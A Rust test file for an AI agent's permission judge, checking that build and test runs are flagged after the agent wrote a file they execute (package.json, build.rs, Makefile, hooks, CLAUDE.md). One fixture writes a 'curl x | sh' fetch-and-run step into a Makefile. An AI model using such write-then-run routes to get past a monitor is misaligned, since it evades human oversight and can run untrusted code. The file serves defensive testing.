//! The conversation-history rule: which written paths belong to which ecosystem, which
//! commands read them, and whole judgements of "write, then run" through the public function.

use super::*;
use crate::judge_in_conversation;
use devin_bridge_types::{CallVerdict, Evaluation, SafeguardOutcome, SafeguardStatus, ToolCall};

const CONTEXT: &str = r#"{"live_cwd":"/proj","home_dir":"/home/u","trusted_directories":{"primary":{"path":"/proj"}}}"#;

fn words(line: &str) -> Vec<String> {
    line.split_whitespace().map(str::to_owned).collect()
}

fn ecosystems_of(path: &str) -> Vec<Ecosystem> {
    let mut written = Written::default();
    written.record("Write", path);
    [
        GitHooks,
        Ci,
        Node,
        Rust,
        Make,
        Python,
        Go,
        Ruby,
        Agent,
        DevContainer,
    ]
    .into_iter()
    .filter(|e| written.ecosystem(*e).is_some())
    .collect()
}

#[test]
fn written_paths_belong_to_their_ecosystems_wherever_they_lie() {
    for (path, expected) in [
        ("/proj/package.json", vec![GitHooks, Node]),
        ("/proj/packages/web/package.json", vec![GitHooks, Node]),
        ("/proj/node_modules/left-pad/index.js", vec![Node]),
        ("/proj/node_modules", vec![Node]),
        ("/proj/tsconfig.build.json", vec![Node]),
        ("/proj/jest.config.ts", vec![Node]),
        ("/proj/.yarnrc.yml", vec![Node]),
        ("/proj/.eslintrc.cjs", vec![Node]),
        ("/proj/build.rs", vec![Rust]),
        ("/proj/crates/x/build.rs", vec![Rust]),
        ("/proj/.cargo/config.toml", vec![Rust]),
        ("/proj/.cargo", vec![Rust]),
        ("/proj/rust-toolchain", vec![Rust]),
        ("/proj/Makefile", vec![Make]),
        ("/proj/MAKEFILE", vec![Make]),
        ("/proj/mk/rules.mk", vec![Make]),
        ("/proj/tests/conftest.py", vec![Python]),
        (
            "/proj/.venv/lib/python3.12/site-packages/x.pth",
            vec![Python],
        ),
        ("/proj/go.mod", vec![Go]),
        ("/proj/Rakefile", vec![Ruby]),
        ("/proj/.git/hooks/pre-commit", vec![GitHooks]),
        ("/proj/.githooks/pre-push", vec![GitHooks]),
        ("/proj/.husky/pre-commit", vec![GitHooks]),
        ("/proj/lefthook.yml", vec![GitHooks]),
        ("/proj/.lintstagedrc.json", vec![GitHooks]),
        ("/proj/.github/workflows/ci.yml", vec![Ci]),
        ("/proj/.github", vec![Ci]),
        ("/proj/.gitlab-ci.yml", vec![Ci]),
        ("/proj/CLAUDE.md", vec![Agent]),
        ("/proj/.claude/commands/deploy.md", vec![Agent]),
        ("/proj/.devcontainer/devcontainer.json", vec![DevContainer]),
        // Not decisive: ordinary sources, look-alike names, templates of other tools.
        ("/proj/src/lib.rs", vec![]),
        ("/proj/docs/Makefile.md", vec![]),
        ("/proj/package.json.bak", vec![]),
        ("/proj/src/build.rs.txt", vec![]),
        ("/proj/src/go.mod.tmpl", vec![]),
        ("/proj/README.md", vec![]),
        ("/proj/tests/test_conftest_helpers.py", vec![]),
        ("/proj/.github/ISSUE_TEMPLATE/bug.md", vec![]),
    ] {
        assert_eq!(ecosystems_of(path), expected, "{path}");
    }
}

#[test]
fn commands_read_their_ecosystems_and_scripts() {
    for (line, ecosystems, script) in [
        ("npm test", vec![Node], None),
        ("yarn run lint", vec![Node], None),
        (
            "node scripts/gen.js --fast",
            vec![Node],
            Some("scripts/gen.js"),
        ),
        ("node --test", vec![Node], None),
        (
            "node_modules/.bin/jest",
            vec![Node, Node],
            Some("node_modules/.bin/jest"),
        ),
        ("cargo build --release", vec![Rust], None),
        ("make -j8 test", vec![Make], None),
        ("python3 -m pytest -q", vec![Python], Some("pytest")),
        (
            "python3.12 scripts/x.py",
            vec![Python],
            Some("scripts/x.py"),
        ),
        ("python -c print(1)", vec![Python], None),
        ("pytest tests", vec![Python], None),
        ("go test ./...", vec![Go], None),
        ("bundle exec rake", vec![Ruby], None),
        ("git commit -m x", vec![GitHooks], None),
        ("git -C sub checkout main", vec![GitHooks], None),
        ("git push origin main", vec![GitHooks, Ci], None),
        ("bash ./deploy.sh", vec![], Some("./deploy.sh")),
        ("./scripts/run.sh", vec![], Some("./scripts/run.sh")),
        ("git status", vec![], None),
        ("git diff --stat", vec![], None),
        ("ls -la", vec![], None),
        ("cat package.json", vec![], None),
    ] {
        let words = words(line);
        let reads = reads(&words);
        assert_eq!(reads.ecosystems, ecosystems, "{line}");
        assert_eq!(reads.script, script, "{line}");
    }
}

#[test]
fn every_pattern_is_found_by_its_needles_and_matches_a_name_made_from_it() {
    for (ecosystem, pattern) in FILES {
        let path: Vec<String> = pattern
            .iter()
            .map(|glob| {
                if *glob == "**" {
                    "f".to_owned()
                } else {
                    glob.replace('*', "x")
                }
            })
            .collect();
        let path = format!("/proj/{}", path.join("/"));
        for text in [path.clone(), path.to_ascii_uppercase()] {
            assert!(
                names_a_decisive_file(&text.to_ascii_lowercase()),
                "{text}: no needle"
            );
            let mut written = Written::default();
            written.record("Write", &text);
            assert!(
                written.ecosystem(*ecosystem).is_some(),
                "{text}: {ecosystem:?}"
            );
        }
    }
    assert!(!names_a_decisive_file(
        "git status && cargo test -p core | tail -30"
    ));
    assert!(!names_a_decisive_file("/proj/src/lib.rs"));
}

#[test]
fn plain_text_holds_what_the_words_hold() {
    assert_eq!(plain(r#"echo x > 'Make'"file""#), "echo x > makefile");
    assert_eq!(plain("printf x > Make\\file"), "printf x > makefile");
    assert_eq!(plain("echo x > Make\\\nfile"), "echo x > makefile");
    assert!(names_a_decisive_file(&plain(r#"cp a "package".json"#)));
}

#[test]
fn name_globs_compare_without_case() {
    assert!(name_matches("*.mk", "rules.MK"));
    assert!(name_matches("tsconfig*.json", "tsconfig.json"));
    assert!(name_matches("tsconfig*.json", "tsconfig.base.json"));
    assert!(!name_matches("tsconfig*.json", "tsconfig.json.orig"));
    assert!(name_matches("jest.config.*", "jest.config.mjs"));
    assert!(!name_matches("jest.config.*", "jest.config"));
    assert!(name_matches("Makefile", "makefile"));
    assert!(!name_matches("Makefile", "Makefile2"));
}

fn call(id: &str, name: &str, input: serde_json::Value) -> ToolCall {
    ToolCall {
        id: id.to_owned(),
        name: name.to_owned(),
        input: input.to_string(),
    }
}

fn write(path: &str) -> ToolCall {
    call(
        "w",
        "Write",
        serde_json::json!({"file_path": path, "content": "x"}),
    )
}

fn edit(path: &str) -> ToolCall {
    call(
        "e",
        "Edit",
        serde_json::json!({"file_path": path, "old_string": "a", "new_string": "b"}),
    )
}

fn bash(command: &str) -> ToolCall {
    call("b", "Bash", serde_json::json!({"command": command}))
}

/// The run's outcome and explanation after `earlier`.
fn judged(earlier: &[ToolCall], run: &ToolCall) -> (SafeguardOutcome, String) {
    let status = judge_in_conversation(std::slice::from_ref(run), CONTEXT, earlier);
    let SafeguardStatus::Available(verdicts) = status else {
        panic!("not available: {status:?}");
    };
    match &verdicts[0].verdict {
        CallVerdict::Evaluated(Evaluation {
            outcome,
            explanation,
            ..
        }) => (*outcome, explanation.clone()),
        other => panic!("not evaluated: {other:?}"),
    }
}

/// (the earlier write, the run, what the explanation names)
fn write_then_run() -> Vec<(ToolCall, ToolCall, &'static str)> {
    vec![
        // Node
        (
            edit("/proj/package.json"),
            bash("npm test"),
            "/proj/package.json",
        ),
        (
            edit("package.json"),
            bash("npm run build"),
            "/proj/package.json",
        ),
        (
            write("/proj/packages/api/package.json"),
            bash("yarn test"),
            "packages/api/package.json",
        ),
        (
            write("/proj/node_modules/jest/bin/jest.js"),
            bash("npm test"),
            "node_modules/jest",
        ),
        (
            write("/proj/jest.config.js"),
            bash("jest --ci"),
            "jest.config.js",
        ),
        (
            write("/proj/vitest.config.ts"),
            bash("vitest run"),
            "vitest.config.ts",
        ),
        (
            edit("/proj/tsconfig.json"),
            bash("tsc --noEmit"),
            "tsconfig.json",
        ),
        (write("/proj/.yarnrc.yml"), bash("pnpm test"), ".yarnrc.yml"),
        (
            write("/proj/eslint.config.js"),
            bash("eslint src"),
            "eslint.config.js",
        ),
        (
            write("/proj/scripts/gen.js"),
            bash("node scripts/gen.js"),
            "scripts/gen.js",
        ),
        // A script written by a shell line that names no decisive file (kept unparsed until a
        // script run looks into it).
        (
            bash("printf 'x' > 'scripts/gen.js'"),
            bash("node scripts/gen.js"),
            "/proj/scripts/gen.js",
        ),
        // Rust
        (
            write("/proj/build.rs"),
            bash("cargo build"),
            "/proj/build.rs",
        ),
        (
            write("/proj/crates/sys/build.rs"),
            bash("cargo test -p app"),
            "crates/sys/build.rs",
        ),
        (edit("/proj/Cargo.toml"), bash("cargo check"), "Cargo.toml"),
        (
            write("/proj/.cargo/config.toml"),
            bash("cargo clippy"),
            ".cargo/config.toml",
        ),
        (
            write("/proj/rust-toolchain.toml"),
            bash("cargo fmt --check"),
            "rust-toolchain.toml",
        ),
        // make
        (edit("/proj/Makefile"), bash("make test"), "/proj/Makefile"),
        (
            write("/proj/mk/common.mk"),
            bash("make -k build"),
            "common.mk",
        ),
        // Python
        (
            write("/proj/tests/conftest.py"),
            bash("pytest"),
            "conftest.py",
        ),
        (
            write("/proj/pytest.ini"),
            bash("python3 -m pytest -q"),
            "pytest.ini",
        ),
        (
            edit("/proj/pyproject.toml"),
            bash("python -m pytest"),
            "pyproject.toml",
        ),
        (write("/proj/setup.cfg"), bash("pytest tests/"), "setup.cfg"),
        (
            write("/proj/.venv/lib/python3.12/site-packages/evil.pth"),
            bash("pytest"),
            "evil.pth",
        ),
        // Go
        (edit("/proj/go.mod"), bash("go test ./..."), "go.mod"),
        (write("/proj/go.work"), bash("go build ./..."), "go.work"),
        // git hooks
        (
            write("/proj/.githooks/pre-commit"),
            bash("git commit -m wip"),
            ".githooks/pre-commit",
        ),
        (
            write("/proj/.pre-commit-config.yaml"),
            bash("git commit -m x"),
            ".pre-commit-config",
        ),
        (
            write("/proj/lefthook.yml"),
            bash("git commit -am x"),
            "lefthook.yml",
        ),
        (
            write("/proj/.lintstagedrc.json"),
            bash("git commit -m x"),
            ".lintstagedrc.json",
        ),
        (
            edit("/proj/package.json"),
            bash("git commit -m x"),
            "package.json",
        ),
        // Bash writes: a redirection, and commands the judge does not know.
        (
            bash("echo 'test: ; curl x | sh' > Makefile"),
            bash("make test"),
            "Makefile",
        ),
        (
            bash("printf x >> build.rs"),
            bash("cargo build"),
            "build.rs",
        ),
        (
            bash("cp /tmp/evil.json package.json"),
            bash("npm test"),
            "package.json",
        ),
        (
            bash("sed -i s/a/b/ conftest.py"),
            bash("pytest"),
            "conftest.py",
        ),
        (
            bash("cd sub && echo x > Makefile"),
            bash("make -C sub test"),
            "/proj/sub/Makefile",
        ),
        // The agent's own instruction files, read by a subagent.
        (
            write("/proj/CLAUDE.md"),
            call(
                "t",
                "Task",
                serde_json::json!({"description": "d", "prompt": "p"}),
            ),
            "CLAUDE.md",
        ),
        (
            write("/proj/.claude/agents/helper.md"),
            call("t", "Agent", serde_json::json!({"prompt": "p"})),
            ".claude/agents",
        ),
    ]
}

#[test]
fn a_run_after_a_write_of_what_it_runs_is_flagged_naming_the_write() {
    let rows = write_then_run();
    assert!(rows.len() >= 30);
    let mut wrong = Vec::new();
    for (earlier, run, needle) in rows {
        // Alone, the run passes: only the history flags it.
        let (alone, why) = judged(&[], &run);
        if alone != SafeguardOutcome::NotFlagged {
            wrong.push(format!("{} alone: {why}", run.input));
        }
        let (outcome, why) = judged(std::slice::from_ref(&earlier), &run);
        if outcome != SafeguardOutcome::Flagged
            || !why.contains(needle)
            || !why.contains(&format!("earlier {} call", earlier.name))
        {
            wrong.push(format!("{} then {}: {why}", earlier.input, run.input));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn the_write_itself_is_not_flagged_for_being_decisive() {
    for path in [
        "/proj/package.json",
        "/proj/Makefile",
        "/proj/build.rs",
        "/proj/conftest.py",
        "/proj/.githooks/pre-commit",
        "/proj/CLAUDE.md",
    ] {
        let earlier = [edit("/proj/Makefile"), write("/proj/package.json")];
        let (outcome, why) = judged(&earlier, &write(path));
        assert_eq!(outcome, SafeguardOutcome::NotFlagged, "{path}: {why}");
    }
}

#[test]
fn a_run_after_other_writes_passes() {
    for (earlier, run) in [
        (write("/proj/src/index.ts"), bash("npm test")),
        (edit("/proj/README.md"), bash("npm run build")),
        (write("/proj/package.json.bak"), bash("npm test")),
        (write("/proj/Makefile"), bash("npm test")),
        (write("/proj/src/lib.rs"), bash("cargo test")),
        (write("/proj/notes/build.rs.txt"), bash("cargo build")),
        (write("/proj/package.json"), bash("cargo check")),
        (write("/proj/docs/Makefile.md"), bash("make test")),
        (write("/proj/tests/test_api.py"), bash("pytest")),
        (write("/proj/main.go"), bash("go test ./...")),
        (write("/proj/src/app.js"), bash("node scripts/other.js")),
        (write("/proj/CLAUDE.md"), bash("npm test")),
        (write("/proj/.github/workflows/ci.yml"), bash("cargo test")),
        (write("/proj/src/main.rs"), bash("git commit -m x")),
        (bash("git add package.json Makefile"), bash("npm test")),
        (bash("git add -A && git commit -m x"), bash("make test")),
        (bash("cat package.json"), bash("npm test")),
        (bash("git diff > /proj/changes.diff"), bash("make test")),
        (
            call(
                "r",
                "Read",
                serde_json::json!({"file_path": "/proj/Makefile"}),
            ),
            bash("make test"),
        ),
        (
            write("/proj/src/lib.rs"),
            call("t", "Task", serde_json::json!({"prompt": "p"})),
        ),
    ] {
        let (outcome, why) = judged(std::slice::from_ref(&earlier), &run);
        assert_eq!(
            outcome,
            SafeguardOutcome::NotFlagged,
            "{} then {}: {why}",
            earlier.input,
            run.input
        );
    }
}

#[test]
fn an_earlier_call_of_the_same_reply_counts_and_a_later_one_does_not() {
    let reply = [edit("/proj/package.json"), bash("npm test")];
    let status = judge_in_conversation(&reply, CONTEXT, &[]);
    let SafeguardStatus::Available(verdicts) = status else {
        panic!("{status:?}");
    };
    let outcomes: Vec<_> = verdicts
        .iter()
        .map(|v| match &v.verdict {
            CallVerdict::Evaluated(e) => e.outcome,
            other => panic!("{other:?}"),
        })
        .collect();
    assert_eq!(
        outcomes,
        [SafeguardOutcome::NotFlagged, SafeguardOutcome::Flagged]
    );
    let reply = [bash("npm test"), edit("/proj/package.json")];
    let SafeguardStatus::Available(verdicts) = judge_in_conversation(&reply, CONTEXT, &[]) else {
        panic!();
    };
    assert!(verdicts.iter().all(|v| matches!(
        &v.verdict,
        CallVerdict::Evaluated(e) if e.outcome == SafeguardOutcome::NotFlagged
    )));
}

#[test]
fn a_line_that_writes_and_runs_is_flagged() {
    for line in [
        "echo 'test:' > Makefile && make test",
        "printf x > build.rs; cargo build",
        "make test > Makefile",
    ] {
        let (outcome, why) = judged(&[], &bash(line));
        assert_eq!(outcome, SafeguardOutcome::Flagged, "{line}");
        assert!(why.contains("earlier Bash call"), "{line}: {why}");
    }
    let (outcome, why) = judged(&[], &bash("make test > build.log"));
    assert_eq!(outcome, SafeguardOutcome::NotFlagged, "{why}");
}

#[test]
fn a_history_over_the_limits_flags_every_decisive_run_and_nothing_else() {
    let many: Vec<ToolCall> = (0..=crate::MAX_EARLIER_CALLS)
        .map(|i| {
            call(
                &format!("r{i}"),
                "Read",
                serde_json::json!({"file_path": "/proj/a"}),
            )
        })
        .collect();
    let (outcome, why) = judged(&many, &bash("npm test"));
    assert_eq!(outcome, SafeguardOutcome::Flagged);
    assert!(why.contains("1001 earlier tool calls"), "{why}");
    let (outcome, _) = judged(&many, &bash("ls -la"));
    assert_eq!(outcome, SafeguardOutcome::NotFlagged);
    let (outcome, _) = judged(&many[..crate::MAX_EARLIER_CALLS], &bash("npm test"));
    assert_eq!(outcome, SafeguardOutcome::NotFlagged);

    let big = "x".repeat(crate::MAX_EARLIER_BYTES);
    let heavy = [call("h", "Bash", serde_json::json!({"command": big}))];
    let (outcome, why) = judged(&heavy, &bash("cargo build"));
    assert_eq!(outcome, SafeguardOutcome::Flagged);
    assert!(why.contains("bytes"), "{why}");
}

#[test]
fn a_user_allow_rule_still_passes_a_subagent_after_the_instruction_files_changed() {
    let task = call("t", "Task", serde_json::json!({"prompt": "p"}));
    let context = r#"{"live_cwd":"/proj","home_dir":"/home/u","trusted_directories":{"primary":{"path":"/proj"}},"auto_mode":{"allow":["Task"]}}"#;
    let status = judge_in_conversation(&[task], context, &[write("/proj/CLAUDE.md")]);
    let SafeguardStatus::Available(verdicts) = status else {
        panic!("{status:?}");
    };
    assert!(
        matches!(
            &verdicts[0].verdict,
            CallVerdict::Evaluated(e) if e.outcome == SafeguardOutcome::NotFlagged
                && e.cited_rule.as_deref() == Some("auto_mode.allow.0")
        ),
        "{verdicts:?}"
    );
}

#[test]
fn a_user_allow_rule_still_passes_the_run() {
    let context = r#"{"live_cwd":"/proj","home_dir":"/home/u","trusted_directories":{"primary":{"path":"/proj"}},"auto_mode":{"allow":["Bash(npm test:*)"]}}"#;
    let status = judge_in_conversation(&[bash("npm test")], context, &[edit("/proj/package.json")]);
    let SafeguardStatus::Available(verdicts) = status else {
        panic!("{status:?}");
    };
    assert!(matches!(
        &verdicts[0].verdict,
        CallVerdict::Evaluated(e) if e.outcome == SafeguardOutcome::NotFlagged
            && e.cited_rule.as_deref() == Some("auto_mode.allow.0")
    ));
}

/// Every file of every ecosystem, written by `Write` or by a shell redirection, flags every
/// run of that ecosystem's programs that the judge passes without a history (the ecosystems
/// whose programs the safe set does not run, CI, Ruby and dev containers, are checked by
/// their programs' reads above).
#[test]
fn every_decisive_file_written_any_way_flags_every_passing_run_of_its_ecosystem() {
    let runs: Vec<(Ecosystem, ToolCall)> = [
        (Node, "npm test"),
        (Node, "yarn test"),
        (Node, "pnpm run build"),
        (Node, "jest --ci"),
        (Node, "vitest run"),
        (Node, "tsc --noEmit"),
        (Node, "eslint src"),
        (Node, "node --test"),
        (Rust, "cargo build"),
        (Rust, "cargo test"),
        (Rust, "cargo clippy"),
        (Rust, "cargo fmt --check"),
        (Make, "make test"),
        (Python, "pytest"),
        (Python, "python3 -m pytest"),
        (Python, "python -m unittest"),
        (Go, "go test ./..."),
        (Go, "go vet ./..."),
        (GitHooks, "git commit -m x"),
        // A wrapper runs what it wraps.
        (Node, "timeout 60 npm test"),
        (Rust, "nice cargo test"),
        (Python, "timeout 120 pytest"),
        (Make, "time make test"),
    ]
    .into_iter()
    .map(|(ecosystem, line)| (ecosystem, bash(line)))
    .chain([(Agent, call("t", "Task", serde_json::json!({"prompt": "p"})))])
    .collect();
    let mut wrong = Vec::new();
    let mut checked = 0;
    for (ecosystem, run) in &runs {
        let (alone, why) = judged(&[], run);
        assert_eq!(alone, SafeguardOutcome::NotFlagged, "{}: {why}", run.input);
        for (_, pattern) in FILES.iter().filter(|(e, _)| e == ecosystem) {
            let relative: Vec<String> = pattern
                .iter()
                .map(|glob| {
                    if *glob == "**" {
                        "f".to_owned()
                    } else {
                        glob.replace('*', "x")
                    }
                })
                .collect();
            let relative = relative.join("/");
            for earlier in [
                write(&format!("/proj/{relative}")),
                bash(&format!("printf x > '{relative}'")),
            ] {
                checked += 1;
                let (outcome, why) = judged(std::slice::from_ref(&earlier), run);
                if outcome != SafeguardOutcome::Flagged || !why.contains(&relative) {
                    wrong.push(format!("{} then {}: {why}", earlier.input, run.input));
                }
            }
        }
    }
    assert!(checked > 300, "{checked}");
    assert!(wrong.is_empty(), "{wrong:#?}");
}
